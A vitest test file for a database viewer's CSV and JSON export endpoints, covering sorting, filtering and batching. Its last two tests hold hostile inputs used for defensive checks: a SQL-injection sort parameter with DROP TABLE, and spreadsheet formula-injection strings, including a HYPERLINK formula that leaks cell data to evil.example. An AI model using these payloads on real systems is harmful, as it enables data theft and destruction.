import { describe, expect, it } from "vitest";
import { viewerAt } from "../../support/apps.ts";
import { openTestDatabase, sqlite3, sqlite3Rows } from "../../support/database.ts";

/**
 * Exports read in keyset batches of 1000; these views span many batches,
 * with NULLs and repeated sort values across batch edges, and must come out
 * exactly as sqlite3 orders them.
 */
describe("table export", () => {
  async function viewerOver(rows: number) {
    const seeded = await openTestDatabase();
    seeded.close();
    sqlite3(
      seeded.path,
      `WITH RECURSIVE s(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM s WHERE i < ${rows})
       INSERT INTO resource_share_increments (claude_name, timestamp, mode, cache_read_increment, context_percentage)
       SELECT 'agent-' || (i % 4), strftime('%Y-%m-%dT%H:%M:%fZ', '2026-11-01', '+' || i || ' seconds'),
         CASE WHEN i % 3 = 0 THEN 'collaboration' ELSE 'autonomy' END, i % 97,
         CASE WHEN i % 11 = 0 THEN NULL ELSE i % 7 END
       FROM s`,
    );
    return { ...(await viewerAt(seeded.path, new Date("2026-11-28T12:00:00Z"))), path: seeded.path };
  }

  it("streams a sorted, filtered view in the database's order, NULLs included", async () => {
    const { app, path, close } = await viewerOver(5000);
    for (const [dir, order] of [["asc", "ASC"], ["desc", "DESC"]] as const) {
      const res = await app.request(`/tables/resource_share_increments/export/csv?sort=context_percentage&dir=${dir}&mode=autonomy`);
      expect(res.status).toBe(200);
      expect(res.headers.get("content-disposition")).toBe('attachment; filename="resource_share_increments.csv"');
      const lines = (await res.text()).trimEnd().split("\r\n");
      const ids = lines.slice(1).map((l) => Number(l.split(",")[0]));
      const expected = sqlite3Rows<{ id: number }>(
        path,
        `SELECT id FROM resource_share_increments WHERE mode = 'autonomy' ORDER BY context_percentage ${order}, rowid ${order}`,
      ).map((r) => r.id);
      expect(expected.length).toBeGreaterThan(3000);
      expect(ids).toEqual(expected);
    }
    close();
  });

  it("streams JSON objects for a date range, one per row", async () => {
    const { app, path, close } = await viewerOver(3000);
    const res = await app.request("/tables/resource_share_increments/export/json?from=2026-11-01&to=2026-11-01&agent=agent-2");
    const rows = (await res.json()) as { claude_name: string; context_percentage: number | null }[];
    const [{ n }] = sqlite3Rows<{ n: number }>(
      path,
      "SELECT count(*) AS n FROM resource_share_increments WHERE claude_name = 'agent-2' AND date(timestamp) = '2026-11-01'",
    ) as [{ n: number }];
    expect(rows).toHaveLength(n);
    expect(rows.some((r) => r.context_percentage === null)).toBe(true);
    expect(new Set(rows.map((r) => r.claude_name))).toEqual(new Set(["agent-2"]));
    close();
  });

  it("streams a day range in the table's own order across many batches, late reports and an agent filter included", async () => {
    const { app, path, close } = await viewerOver(9000);
    // Late reports: high rowids whose timestamps fall inside the range, and rows before and after it.
    sqlite3(
      path,
      `INSERT INTO resource_share_increments (claude_name, timestamp, mode, cache_read_increment, cost_delta)
       VALUES ('agent-1', '2026-11-01T12:00:00.000Z', 'autonomy', 1, 0.1), ('agent-2', '2026-11-02T00:00:00.000Z', 'autonomy', 2, 0.2),
              ('agent-1', '2026-10-31T23:59:59.999Z', 'autonomy', 3, NULL), ('agent-1', '2026-11-01T23:59:59.999Z', 'collaboration', 4, 1e-7)`,
    );
    for (const [query, where, order] of [
      ["from=2026-11-01&to=2026-11-01", "date(timestamp) = '2026-11-01'", "DESC"],
      ["from=2026-11-01&to=2026-11-01&dir=asc&agent=agent-1", "date(timestamp) = '2026-11-01' AND claude_name = 'agent-1'", "ASC"],
      ["", "1", "DESC"],
    ] as const) {
      const res = await app.request(`/tables/resource_share_increments/export/csv?${query}`);
      const lines = (await res.text()).trimEnd().split("\r\n");
      const rows = sqlite3Rows(path, `SELECT * FROM resource_share_increments WHERE ${where} ORDER BY rowid ${order}`);
      expect(rows.length).toBeGreaterThan(2000);
      expect(lines.length - 1).toBe(rows.length);
      // Every field as sqlite3 has it (numbers as JavaScript writes them, NULL empty).
      const csv = rows.map((r) => Object.values(r).map((v) => (v === null ? "" : String(v))).join(","));
      expect(lines.slice(1)).toEqual(csv);
    }
    close();
  });

  it("refuses a sort column the table does not have, naming it", async () => {
    const { app, close } = await viewerOver(10);
    const res = await app.request('/tables/resource_share_increments/export/csv?sort=id%22%3B%20DROP%20TABLE%20x%3B--');
    expect(res.status).toBe(400);
    expect(await res.text()).toMatch(/There is no column "id"; DROP TABLE x;--" in resource_share_increments/);
    expect((await app.request("/tables/no_such_table")).status).toBe(404);
    close();
  });

  it("writes text a spreadsheet would run as a formula as quoted text with a leading quote, and numbers as numbers", async () => {
    const { app, path, close } = await viewerOver(0);
    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTab", "\rReturn", "Plain-Name"];
    sqlite3(
      path,
      names
        .map((n) => `INSERT INTO resource_share_increments (claude_name, timestamp, mode, cache_read_increment, cost_delta, context_percentage)
          VALUES ('${n.replace(/'/g, "''")}', '2026-11-27T10:00:00.000Z', 'autonomy', -7, -0.25, '-3');`)
        .join("\n"),
    );
    const csvOf = async (url: string) => {
      const res = await app.request(url);
      expect(res.status, url).toBe(200);
      return res.text();
    };
    const quoted = (n: string) => `"'${n.replace(/"/g, '""')}"`;

    const rows = await csvOf("/tables/resource_share_increments/export/csv?from=2026-11-27");
    // Stored as numbers (context_percentage is REAL: SQLite made '-3' a number): written as numbers.
    for (const n of names) expect(rows).toContain(`,${n === "Plain-Name" ? n : quoted(n)},2026-11-27T10:00:00.000Z,autonomy,-7,-3,-0.25,`);

    const daily = await csvOf("/daily/export/csv?from=2026-11-27&to=2026-11-27");
    expect(daily).toContain(`${quoted(names[0]!)},2026-11-27,-7,0,-7,-0.25,0,-0.25,1,0,1,false\r\n`);
    expect(daily).toContain("\r\nPlain-Name,2026-11-27,");
    close();
  });
});
